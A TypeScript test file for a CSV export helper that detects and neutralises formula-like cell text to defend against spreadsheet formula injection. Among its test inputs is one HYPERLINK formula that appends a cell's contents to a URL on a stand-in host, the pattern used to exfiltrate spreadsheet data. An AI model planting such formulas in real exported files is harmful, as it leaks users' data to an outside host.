import { describe, expect, it } from 'vitest';
import { neutraliseForCsv, startsLikeFormula } from '@shared/xlsx/formula-like-text.ts';

describe('startsLikeFormula', () => {
  it.each([
    ['=1+1'],
    ['=HYPERLINK("https://example.com/?q="&A1,"לחצו")'],
    ['+972-50-1234567'],
    ['-5'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\n=1+1'],
  ])('is true for %j', (text) => {
    expect(startsLikeFormula(text)).toBe(true);
  });

  it.each([[''], ['מועדון חברתי'], ['1+1'], [' =1+1'], ["'=1+1"], ['5-3'], ['a@b.co.il'], ['(כולל מע"מ)']])('is false for %j', (text) => {
    expect(startsLikeFormula(text)).toBe(false);
  });
});

describe('neutraliseForCsv', () => {
  it('prefixes formula-like text with one apostrophe and leaves other text alone', () => {
    expect(neutraliseForCsv('=1+1')).toBe("'=1+1");
    expect(neutraliseForCsv('-5')).toBe("'-5");
    expect(neutraliseForCsv('@SUM(A1:A2)')).toBe("'@SUM(A1:A2)");
    expect(neutraliseForCsv('\tשם')).toBe("'\tשם");
    expect(neutraliseForCsv('מועדון')).toBe('מועדון');
    expect(neutraliseForCsv('')).toBe('');
  });

  it('is stable: text already prefixed is not prefixed again', () => {
    expect(neutraliseForCsv(neutraliseForCsv('+972'))).toBe("'+972");
  });
});
